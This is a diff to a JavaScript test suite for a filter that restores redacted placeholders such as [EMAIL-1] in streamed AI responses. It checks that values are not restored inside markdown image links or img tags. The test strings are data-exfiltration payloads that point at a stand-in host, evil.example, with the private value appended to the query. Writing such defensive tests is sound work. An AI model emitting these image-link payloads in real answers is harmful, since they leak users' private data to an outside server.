@@ -27,10 +27,36 @@ describe('an address that reaches over the strings of JSON keeps its tokens', ()
     'data: {"a":"<img src=\'https://evil.example/?q=","b":"[EMAIL-1]\'>"}\n\n',
     'data: {"a":"<img src=\'https://evil.example/?q="}\n\ndata: {"b":"[EMAIL-1]\'>"}\n\n',
     'data: x\n\n{"a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}\n\n',
+    '{"a":"![x](https://evil.example/?q=\\u0029[EMAIL-1])"}',
+    '{"a":"![x](https://evil.example/?q=\\n\\n[EMAIL-1])"}\n{"b":1}\n',
+    '{"response":"![x](https://evil.example/?q=\\n\\n"}\n{"response":"[EMAIL-1])"}\n',
     `{"p":"${'x'.repeat(1100)}","a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}`,
   ])('%j', (text) => {
     expect(restored(text)).toBe(text);
     expect(restoreAnswerText('text', text, map)).toBe(text);
+  });
+
+  test('nor does an event do that goes in behind a growing text', () => {
+    const grown = ['Hello', 'Hello dear', 'Hello dear friend [EMAIL-1]', 'Hello dear friend [EMAIL-1] you [EMA'];
+    const lines = grown.map(
+      (t) => `${JSON.stringify({ x: t.endsWith('A') ? "<img src='https://evil.example/?q=" : '', t })}\n`,
+    );
+    const out = restored(`${lines.join('')}{"done":true}\n`);
+    expect(out.slice(out.indexOf('<img'))).not.toContain('a@b.example');
+  });
+
+  test('nor does an event that is no text hide where one begins', () => {
+    const lines = Buffer.from('{"x":"\xff<img src=\'https://evil.example/?q="}\n{"r":"[EMAIL-1]\'>"}\n', 'latin1');
+    expect(restoreStream('text', map, lines)).not.toContain('a@b.example');
+  });
+
+  test('a link that is cut keeps none behind it', () => {
+    const said = 'See [Docs](https://example.com/guide). Ask [EMAIL-1] there.';
+    for (let cut = 1; cut < said.length; cut++) {
+      const pieces = [said.slice(0, cut), said.slice(cut)];
+      const out = restored(pieces.map((piece) => `0:${JSON.stringify(piece)}\n`).join(''));
+      expect(out.replace('"\n0:"', ''), String(cut)).toContain('Ask a@b.example there.');
+    }
   });
 
   test('behind it they are restored again', () => {
@@ -64,6 +90,19 @@ test.each([
 ])('prose %s is restored', (_where, text, expected) => {
   expect(restored(text)).toBe(expected);
   expect(restoreAnswerText('text', text, map)).toBe(expected);
+});
+
+test.each([': ping\n\n', 'event: ping\n\n', 'retry: 3000\n\n', ':\n\n', '\n'])(
+  '%j is no prose between events',
+  (ping) => {
+    const text = `data: {"content":"Hi [EMA"}\n\n${ping}data: {"content":"IL-1]"}\n\n`;
+    expect(restored(text)).toBe(text.replace('[EMA', '').replace('IL-1]', 'a@b.example'));
+  },
+);
+
+test('a line of blanks is no prose between lines', () => {
+  const text = '{"response":"Hi [EMA"}\n \n{"response":"IL-1]"}\n';
+  expect(restored(text)).toBe(text.replace('[EMA', '').replace('IL-1]', 'a@b.example'));
 });
 
 test.each([
